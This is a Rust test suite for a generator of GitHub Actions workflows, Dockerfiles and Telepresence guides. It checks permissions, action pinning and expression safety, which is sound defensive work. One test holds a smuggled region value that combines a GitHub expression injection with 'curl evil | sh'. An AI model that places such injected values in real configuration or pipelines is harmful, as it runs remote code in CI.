//! Properties of the emitted workflows and guides, on the repository's fixtures and on hostile
//! input.

use std::path::Path;

use serde_norway::Value;

use super::*;

fn ir_of(source: &str) -> Ir {
    let checked = platc_check::check(source);
    assert!(checked.problems.is_empty(), "{:?}", checked.problems);
    platc_ir::resolve(&checked.document).unwrap()
}

fn fixture(name: &str) -> Ir {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures")
        .join(name)
        .join("platform.toml");
    ir_of(&std::fs::read_to_string(path).unwrap())
}

fn files(tree: &FileTree) -> Vec<String> {
    tree.iter().map(|(p, _)| p.to_string()).collect()
}

fn text(tree: &FileTree, path: &str) -> String {
    String::from_utf8(tree.get(&RelPath::new(path).unwrap()).unwrap().to_vec()).unwrap()
}

fn yaml(text: &str) -> Value {
    serde_norway::from_str(text).unwrap()
}

/// Every `run:` script and `env:`/`with:` value of a workflow, one per line, for searching.
fn scripts(text: &str) -> String {
    let doc = yaml(text);
    let mut out = String::new();
    walk(&doc, None, &mut |_, v| {
        if let Some(m) = v.as_mapping() {
            for (k, v) in m {
                if let (Some(k), Some(v)) = (k.as_str(), v.as_str()) {
                    out.push_str(&format!("{k}: {v}\n"));
                }
            }
        }
    });
    out
}

fn walk<'a>(v: &'a Value, key: Option<&str>, f: &mut impl FnMut(Option<&str>, &'a Value)) {
    f(key, v);
    match v {
        Value::Mapping(m) => {
            for (k, v) in m {
                walk(v, k.as_str(), f);
            }
        }
        Value::Sequence(s) => {
            for v in s {
                walk(v, None, f);
            }
        }
        _ => {}
    }
}

/// The expressions a workflow may contain: ours, never a user's.
fn allowed_expression(e: &str) -> bool {
    let e = e.trim();
    e == "'${{'"
        || e.starts_with("secrets.")
        || e == "github.token"
        || e == "github.ref"
        || e == "github.event.pull_request.number"
        || e == "github.event_name == 'pull_request'"
}

/// Every property the workflow rules promise, checked on the parsed file.
fn check_workflow(path: &str, text: &str) {
    if !path.ends_with("ci.yml") {
        assert!(text.starts_with(platc_kustomize::HEADER), "{path}: header");
    }
    let doc = yaml(text);
    assert_eq!(
        doc.get("permissions"),
        Some(&Value::Mapping(Default::default())),
        "{path}: top-level permissions must be empty"
    );
    assert!(doc.get("concurrency").is_some(), "{path}: concurrency");
    let jobs = doc.get("jobs").and_then(Value::as_mapping).unwrap();
    for (id, job) in jobs {
        let perms = job.get("permissions").unwrap();
        let oidc = perms.get("id-token").and_then(Value::as_str) == Some("write");
        let uses_oidc = {
            let mut found = false;
            walk(job, None, &mut |k, v| {
                if k == Some("uses") {
                    let u = v.as_str().unwrap();
                    found |= !u.starts_with("actions/checkout@")
                        && !u.starts_with("hashicorp/setup-terraform@");
                }
                if k == Some("ARM_USE_OIDC") {
                    found = true;
                }
            });
            found
        };
        assert_eq!(oidc, uses_oidc, "{path}: job {id:?} id-token");
        assert!(
            job.get("timeout-minutes").is_some(),
            "{path}: {id:?} timeout"
        );
        assert_eq!(
            perms.as_mapping().unwrap().len(),
            1 + usize::from(oidc) + usize::from(perms.get("packages").is_some()),
            "{path}: {id:?} permissions {perms:?}"
        );
    }
    walk(&doc, None, &mut |k, v| {
        if let Some(s) = v.as_str() {
            if k == Some("run") {
                assert!(!s.contains("${{"), "{path}: expression in run: {s}");
            }
            let mut rest = s;
            while let Some(at) = rest.find("${{") {
                let after = &rest[at + 3..];
                let end = after.find("}}").unwrap();
                assert!(
                    allowed_expression(&after[..end]),
                    "{path}: `{}`",
                    &after[..end]
                );
                rest = &after[end + 2..];
            }
        }
        if k == Some("uses") {
            let u = v.as_str().unwrap();
            let pin = gha::PINNED.iter().find(|a| a.uses() == u);
            assert!(pin.is_some(), "{path}: unpinned {u}");
        }
        if let Some(m) = v.as_mapping() {
            if m.get("uses")
                .and_then(Value::as_str)
                .is_some_and(|u| u.starts_with("actions/checkout@"))
            {
                assert_eq!(
                    m.get("with").and_then(|w| w.get("persist-credentials")),
                    Some(&Value::Bool(false)),
                    "{path}: persist-credentials"
                );
            }
        }
    });
    for line in text.lines().filter(|l| l.contains("uses: ")) {
        assert!(line.contains(" # v"), "{path}: no version comment: {line}");
    }
}

#[test]
fn example_workflows_and_guide() {
    let tree = emit(&fixture("example")).unwrap();
    assert_eq!(
        files(&tree),
        [
            ".github/workflows/core-services.yml",
            ".github/workflows/deploy-prod.yml",
            ".github/workflows/deploy-test.yml",
            ".github/workflows/platc-check.yml",
            ".github/workflows/terraform.yml",
            "apps/shop/EW.md",
        ]
    );
    for (p, bytes) in tree.iter() {
        if p.as_str().ends_with(".yml") {
            check_workflow(p.as_str(), std::str::from_utf8(bytes).unwrap());
        }
    }

    let test = yaml(&text(&tree, ".github/workflows/deploy-test.yml"));
    let on = test.get("on").unwrap();
    assert!(on.get("push").is_some() && on.get("release").is_none());
    assert_eq!(test["jobs"]["deploy"]["environment"].as_str(), Some("test"));
    let prod_text = text(&tree, ".github/workflows/deploy-prod.yml");
    let prod = yaml(&prod_text);
    assert_eq!(
        prod["on"]["release"]["types"][0].as_str(),
        Some("published")
    );
    assert!(prod["on"].get("workflow_dispatch").is_some());
    assert!(prod["on"].get("push").is_none());
    assert_eq!(prod["jobs"]["deploy"]["environment"].as_str(), Some("prod"));
    let prod_values = scripts(&prod_text);
    assert!(prod_values.contains("OVERLAY: deploy/apps/shop/overlays/prod\n"));
    assert!(prod_values.contains("NAMESPACE: shop-prod\n"));
    assert!(prod_values.contains("aws-region: eu-central-1\n"));
    assert!(prod_text.contains("required reviewers"));

    // On a release, prod's Terraform (managed stores, secret-manager entries) is applied
    // before anything is deployed, and the deploy waits for it.
    assert_eq!(
        prod["jobs"]["terraform"]["needs"][0].as_str(),
        Some("build")
    );
    let deploy_needs: Vec<&str> = prod["jobs"]["deploy"]["needs"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(deploy_needs, ["build", "terraform"]);
    assert_eq!(
        prod["jobs"]["terraform"]["environment"].as_str(),
        Some("prod")
    );
    assert_eq!(
        prod["jobs"]["terraform"]["concurrency"]["group"].as_str(),
        Some("terraform-apply-prod")
    );

    // Test's in-cluster stores are installed with Helm, after the overlay (whose
    // ExternalSecrets make their credential Secrets) and before the rollout wait.
    let steps: Vec<&str> = test["jobs"]["deploy"]["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    let at = |name: &str| steps.iter().position(|s| *s == name).unwrap();
    assert!(at("Set up Helm") < at("Apply shop to shop-test"));
    assert!(at("Apply shop to shop-test") < at("Databases and caches of shop in shop-test"));
    assert!(
        at("Databases and caches of shop in shop-test")
            < at("Wait for the Deployments of shop in shop-test")
    );
    let releases = test["jobs"]["deploy"]["steps"][at("Databases and caches of shop in shop-test")]
        ["env"]["RELEASES"]
        .as_str()
        .unwrap();
    assert!(releases.contains(
        "orders-postgresql oci://registry-1.docker.io/bitnamicharts/postgresql 17.1.0 helm/orders-postgresql.values.yaml\n"
    ));
    assert_eq!(releases.lines().count(), 7, "{releases}");
    // Prod has no in-cluster stores: no Helm.
    assert!(!prod_text.contains("setup-helm"));

    // core-services: namespaces, then the charts in the helmfile's order, then the objects.
    let core_text = text(&tree, ".github/workflows/core-services.yml");
    let core = yaml(&core_text);
    assert_eq!(
        core["on"]["push"]["paths"][0].as_str(),
        Some("deploy/core-services/**")
    );
    assert_eq!(
        core["jobs"]["deploy"]["environment"].as_str(),
        Some("core-services")
    );
    let core_releases = scripts(&core_text);
    let first = core_releases
        .find("kube-prometheus-stack kube-prometheus-stack https://")
        .unwrap();
    let strimzi = core_releases
        .find("strimzi-kafka-operator oci://quay.io/strimzi-helm/strimzi-kafka-operator - ")
        .unwrap();
    assert!(first < strimzi);

    // Terraform only for the stages with a Terraform directory; it applies only by hand, the
    // deploy workflows apply on their own triggers.
    let tf = yaml(&text(&tree, ".github/workflows/terraform.yml"));
    let jobs: Vec<&str> = tf["jobs"]
        .as_mapping()
        .unwrap()
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect();
    // prod provisions managed stores; test only holds the in-cluster stores' credentials.
    assert_eq!(jobs, ["plan-prod", "apply-prod", "plan-test", "apply-test"]);
    assert_eq!(
        tf["on"]["pull_request"]["paths"][0].as_str(),
        Some("deploy/terraform/**")
    );
    assert_eq!(
        tf["jobs"]["apply-prod"]["environment"].as_str(),
        Some("prod")
    );
    assert!(tf["on"].get("release").is_none());
    assert_eq!(
        tf["jobs"]["apply-prod"]["if"].as_str(),
        Some("github.event_name == 'workflow_dispatch'")
    );

    let check = scripts(&text(&tree, ".github/workflows/platc-check.yml"));
    assert!(
        check.contains(
            "WORKFLOWS: core-services.yml deploy-prod.yml deploy-test.yml platc-check.yml terraform.yml"
        )
    );

    let guide = text(&tree, "apps/shop/EW.md");
    assert!(guide.starts_with("<!-- Generated by platc"));
    assert!(guide.contains("telepresence connect --namespace shop-test\n"));
    assert!(guide.contains("telepresence intercept payment --port 8443:8443\n"));
    assert!(!guide.contains("\n\n\n"), "{guide}");
    assert!(!guide.lines().any(|l| l.ends_with(' ')), "{guide}");
}

#[test]
fn minimal_has_a_manual_stage_and_nothing_else() {
    let tree = emit(&fixture("minimal")).unwrap();
    assert_eq!(
        files(&tree),
        [
            ".github/workflows/core-services.yml",
            ".github/workflows/deploy-test.yml",
            ".github/workflows/platc-check.yml",
        ]
    );
    let test = yaml(&text(&tree, ".github/workflows/deploy-test.yml"));
    let triggers: Vec<&str> = test["on"]
        .as_mapping()
        .unwrap()
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect();
    assert_eq!(triggers, ["workflow_dispatch"]);
    for (p, bytes) in tree.iter() {
        check_workflow(p.as_str(), std::str::from_utf8(bytes).unwrap());
    }
}

#[test]
fn multi_app_uses_azure_oidc() {
    let tree = emit(&fixture("multi-app")).unwrap();
    let staging = scripts(&text(&tree, ".github/workflows/deploy-staging.yml"));
    assert!(staging.contains("uses: azure/login@"));
    assert!(staging.contains("az aks get-credentials"));
    let tf = scripts(&text(&tree, ".github/workflows/terraform.yml"));
    assert!(tf.contains("ARM_USE_OIDC: true\n"));
    assert!(!tf.contains("azure/login"));
    assert!(tf.contains("STATE_KEY: key=globex-prod.tfstate"));
    for (p, bytes) in tree.iter() {
        if p.as_str().ends_with(".yml") {
            check_workflow(p.as_str(), std::str::from_utf8(bytes).unwrap());
        }
    }
    // Two apps, one guide each, for the `dev` stage that joins `staging`.
    assert!(text(&tree, "apps/billing/EW.md").contains("--namespace billing-staging"));
    assert!(text(&tree, "apps/identity/EW.md").contains("telepresence intercept audit-log"));
}

#[test]
fn hostile_region_and_registry_stay_values() {
    let source =
        "version = 1\n\n[platform]\nname = \"p\"\ndomain = \"p.example\"\ncloud = \"aws\"\n\
        region = \"${{ secrets.TOKEN }}\\\"; curl evil | sh #\\n'\"\n\
        registry = \"ghcr.io/p\"\n\n\
        [stages.ew]\njoins = \"test\"\n\n\
        [stages.test]\nnamespace = \"{app}-test\"\ndeploy = \"push\"\ndatabases = \"managed\"\n\n\
        [apps.shop.services.api]\nport = 8080\ndatabase = { engine = \"postgresql\" }\n";
    let checked = platc_check::check(source);
    assert!(checked.problems.is_empty(), "{:?}", checked.problems);
    let ir = platc_ir::resolve(&checked.document).unwrap();
    let tree = emit(&ir).unwrap();
    for (p, bytes) in tree.iter() {
        if p.as_str().ends_with(".yml") {
            check_workflow(p.as_str(), std::str::from_utf8(bytes).unwrap());
        }
    }
    let scaffold = scaffold(&ir, "shop", "api").unwrap();
    let ci = text(&scaffold, ".github/workflows/ci.yml");
    check_workflow("ci.yml", &ci);
    // The region reaches the workflow as a value that evaluates to itself.
    let deploy = scripts(&text(&tree, ".github/workflows/deploy-test.yml"));
    assert!(
        deploy.contains("REGION: ${{ '${{' }} secrets.TOKEN }}\"; curl evil | sh #\n'\n"),
        "{deploy}"
    );
}

#[test]
fn output_is_deterministic() {
    let ir = fixture("example");
    assert_eq!(emit(&ir).unwrap(), emit(&ir).unwrap());
}

#[test]
fn scaffold_of_an_example_service() {
    let ir = fixture("example");
    let tree = scaffold(&ir, "shop", "payment").unwrap();
    assert_eq!(
        files(&tree),
        [
            ".devcontainer/devcontainer.json",
            ".dockerignore",
            ".github/workflows/ci.yml",
            "Dockerfile",
            "README.md",
            "telepresence/intercept.sh",
        ]
    );
    let docker = text(&tree, "Dockerfile");
    assert!(docker.contains("USER 10001:10001\n"));
    assert!(docker.contains("EXPOSE 8443\n"));
    assert!(docker.contains("echo ok > /out/www/healthz"));
    assert!(docker.contains("FROM build AS test\n"));
    let ci = text(&tree, ".github/workflows/ci.yml");
    check_workflow("ci.yml", &ci);
    let ci = yaml(&ci);
    assert_eq!(
        ci["jobs"]["publish"]["permissions"]["packages"].as_str(),
        Some("write")
    );
    assert!(ci["jobs"]["publish"]["permissions"]
        .get("id-token")
        .is_none());
    let dc: serde_json::Value =
        serde_json::from_str(&text(&tree, ".devcontainer/devcontainer.json")).unwrap();
    assert_eq!(dc["forwardPorts"][0], 8443);
    let script = text(&tree, "telepresence/intercept.sh");
    assert!(script.contains("NAMESPACE=shop-test\n"));
    assert!(script.contains("telepresence intercept \"$SERVICE\" --port \"$PORT:$PORT\""));
    assert!(matches!(
        scaffold(&ir, "shop", "nope"),
        Err(ScaffoldError::UnknownService { .. })
    ));
}

#[test]
fn scaffold_pushes_to_cloud_registries_with_oidc() {
    let ir = fixture("multi-app");
    let tree = scaffold(&ir, "billing", "ledger").unwrap();
    let ci = text(&tree, ".github/workflows/ci.yml");
    check_workflow("ci.yml", &ci);
    let ci = scripts(&ci);
    assert!(ci.contains("az acr login --name \"$REGISTRY_NAME\""));
    assert!(ci.contains("REGISTRY_NAME: globex\n"));
    let ir = fixture("minimal");
    let tree = scaffold(&ir, "hello", "api").unwrap();
    let ci = text(&tree, ".github/workflows/ci.yml");
    check_workflow("ci.yml", &ci);
    assert!(scripts(&ci).contains("gcloud auth configure-docker"));
    assert!(tree
        .get(&RelPath::new("telepresence/intercept.sh").unwrap())
        .is_none());
}
